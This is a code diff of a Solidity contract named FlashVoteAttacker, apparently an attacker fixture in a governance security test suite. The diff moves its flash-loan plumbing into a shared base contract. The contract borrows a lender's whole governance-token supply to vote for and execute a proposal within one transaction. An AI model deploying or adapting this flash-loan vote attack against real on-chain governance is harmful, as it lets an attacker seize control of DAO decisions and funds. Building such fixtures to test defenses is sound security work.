@@ -3,37 +3,30 @@ pragma solidity 0.8.30;
 
 import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";
 import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
-import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
 import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
-import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
+
+import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";
 
 /// @title FlashVoteAttacker
 /// @notice Borrows every governance token the lender has, delegates the votes to itself, votes For
 /// a proposal, executes it if that made it pass, and repays — all in one transaction.
-contract FlashVoteAttacker is IERC3156FlashBorrower {
-    using SafeERC20 for IERC20;
-
-    error AttackerNotOwner(address caller);
-    error AttackerUntrustedLoan(address lender, address initiator);
-
+contract FlashVoteAttacker is FlashLoanAttacker {
     event FlashVoted(uint256 indexed proposalId, uint256 borrowed, uint256 weight, bool executed);
 
-    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
-
-    IERC3156FlashLender public immutable lender;
     IGovernor public immutable governor;
     IERC20 public immutable token;
-    address public immutable owner;
 
     /// @notice The weight the governor counted for the last flash-loaned vote.
     uint256 public lastVoteWeight;
 
-    constructor(IERC3156FlashLender lender_, IGovernor governor_, IERC20 token_, address owner_) {
-        lender = lender_;
+    constructor(
+        IERC3156FlashLender lender_,
+        IGovernor governor_,
+        IERC20 token_
+    ) FlashLoanAttacker(lender_) {
         governor = governor_;
         token = token_;
-        owner = owner_;
     }
 
     /// @notice Votes For proposal (targets, values, calldatas, descriptionHash) with borrowed tokens
@@ -43,24 +36,13 @@ contract FlashVoteAttacker is IERC3156FlashBorrower {
         uint256[] calldata values,
         bytes[] calldata calldatas,
         bytes32 descriptionHash
-    ) external {
-        if (msg.sender != owner) revert AttackerNotOwner(msg.sender);
+    ) external onlyOwner {
         address tokenAddress = address(token);
         bytes memory data = abi.encode(targets, values, calldatas, descriptionHash);
         lender.flashLoan(this, tokenAddress, lender.maxFlashLoan(tokenAddress), data);
     }
 
-    /// @inheritdoc IERC3156FlashBorrower
-    function onFlashLoan(
-        address initiator,
-        address,
-        uint256 amount,
-        uint256 fee,
-        bytes calldata data
-    ) external returns (bytes32) {
-        if (msg.sender != address(lender) || initiator != address(this)) {
-            revert AttackerUntrustedLoan(msg.sender, initiator);
-        }
+    function _useLoan(uint256 amount, bytes calldata data) internal override {
         (
             address[] memory targets,
             uint256[] memory values,
@@ -78,7 +60,5 @@ contract FlashVoteAttacker is IERC3156FlashBorrower {
             executed = true;
         }
         emit FlashVoted(proposalId, amount, weight, executed);
-        token.forceApprove(address(lender), amount + fee);
-        return CALLBACK_SUCCESS;
     }
 }
